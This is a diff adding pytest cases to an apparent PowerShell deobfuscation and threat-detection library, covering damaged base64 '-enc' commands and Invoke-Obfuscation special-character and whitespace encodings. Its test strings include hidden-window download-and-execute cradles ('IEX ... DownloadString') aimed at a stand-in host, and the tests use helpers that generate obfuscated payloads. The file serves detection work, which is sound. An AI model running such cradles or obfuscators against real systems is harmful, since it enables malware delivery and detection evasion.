@@ -9,6 +9,7 @@ import zlib
 import pytest
 
 from threatscope.powershell import deobfuscate, extract_iocs
+from threatscope.powershell.obfuscate import special_chars_command, whitespace_command
 
 GOAL = "Write-Host ok"
 
@@ -293,3 +294,81 @@ def test_carets_in_a_cmd_launched_powershell_name():
     assert deobfuscate("echo p^owe^rshell").layers == []  # not launched by cmd /c
     r = deobfuscate('cmd /c p^owe^rshell -nop -c "Get-Date"')
     assert r.final == "Get-Date" and r.techniques == {"carets"}
+
+
+LONG = "IEX (New-Object Net.WebClient).DownloadString('http://a.example.com/payload.ps1')"
+
+
+def test_damaged_base64_junk_after_the_value():
+    """A macro's `",NULL,NULL);` or a literal `\\xc3` after the value: read up to it."""
+    for junk in ('",NULL,NULL);', "\\xc3\\xa9r"):
+        r = deobfuscate(f"powershell -w hidden -enc {enc(LONG)}{junk}")
+        assert r.layers[0].text == LONG and r.reason.startswith("base64 damaged"), (junk, r.layers[0].text)
+
+
+def test_damaged_base64_resynchronised():
+    """A character lost mid-stream shifts all after it; each text run is read in its own alignment."""
+    value = enc(LONG)
+    cut = value[:40] + value[41:]  # one character gone: the rest is off by 6 bits
+    r = deobfuscate(f"powershell -enc {cut}")
+    # the space whose bits the lost character held is gone, the rest is all there
+    assert r.layers[0].text == LONG.replace("Object Net", "ObjectNet")
+    assert r.reason.startswith("base64 damaged")
+    # junk before the payload, a byte off: skipped, not decoded into noise
+    r = deobfuscate("powershell -enc 1hdioweuzvisk78elopadjur" + value[2:])
+    assert LONG[2:] in r.layers[0].text and r.reason.startswith("base64 damaged")
+
+
+def test_base64_of_utf8_and_a_cut_last_character():
+    utf8 = base64.b64encode(LONG.encode()).decode()
+    r = deobfuscate(f"powershell -enc {utf8}")
+    assert r.layers[0].text == LONG and r.reason == "base64 of UTF-8, not UTF-16LE"
+    odd = base64.b64encode(LONG.encode("utf-16-le")[:-1]).decode()  # the last ')' lost its zero byte
+    assert deobfuscate(f"powershell -enc {odd}").layers[0].text == LONG
+
+
+def test_no_space_after_powershell_exe():
+    r = deobfuscate(f"powershell.exe-window hidden -enc {enc(GOAL)}")
+    assert r.final == GOAL and r.layers[0].technique == "encodedcommand"
+
+
+def test_noise_is_not_read_as_text():
+    """No text in the bytes: the strict decode stays (nothing is made up), no lenient runs."""
+    r = deobfuscate("powershell -enc BBBBAAAAAAAAAAAAAAAACCCCCCCCCCCCCCCC")
+    assert r.layers and not (r.reason or "").startswith("base64 damaged")
+
+
+PAYLOAD = "Write-Host \"hi\" $env:TEMP; (New-Object Net.WebClient).DownloadString('http://a.example.com/x')"
+
+
+@pytest.mark.parametrize("seed", range(6))
+def test_special_characters_encoding(seed):
+    """Invoke-Obfuscation's ${;}=+$();${=}=${;};${+}=++${;}... form, evaluated statement by statement."""
+    script = special_chars_command(PAYLOAD, random.Random(seed))
+    r = deobfuscate(script)
+    assert r.final == PAYLOAD, (r.layers, r.reason)
+    assert r.layers[0].technique == "special-chars" and r.layers[0].text.endswith("|iex\"|&'iex'")
+    assert "special-chars" in r.techniques and not r.truncated
+
+
+def test_special_character_variables_alone_are_no_layer():
+    counting = ("${;}=+$();${=}=${;};${+}=++${;};${@}=++${;};${.}=++${;};${[}=++${;};${]}=++${;};"
+                "${(}=++${;};${)}=++${;};${&}=++${;};${|}=++${;};\nWrite-Host \"${+}${@} of ${|}\"")
+    assert deobfuscate(counting).layers == []
+    braces = "${my var} = 1; ${env:ProgramFiles(x86)}; ${a}=++${my var}; Write-Output \"${a}\""
+    assert deobfuscate(braces).layers == []
+
+
+@pytest.mark.parametrize("seed", range(6))
+def test_whitespace_encoding_digits(seed):
+    """Invoke-Obfuscation's whitespace form: digits as runs (digit + 1 long), read by .Length-1."""
+    script = whitespace_command(PAYLOAD, random.Random(seed))
+    assert set(script.split("'")[1]) == {" ", "\t"}
+    r = deobfuscate(script)
+    assert r.layers[0].technique == "whitespace-encoding" and r.final == PAYLOAD, (r.layers, r.reason)
+
+
+def test_whitespace_strings_alone_are_no_layer():
+    script = ("$indent = '    \t    \t        \t\t    '\n$w = $indent.Length - 1\n"
+              "& (Get-Command Write-Host) ($indent + 'x')")
+    assert deobfuscate(script).layers == []
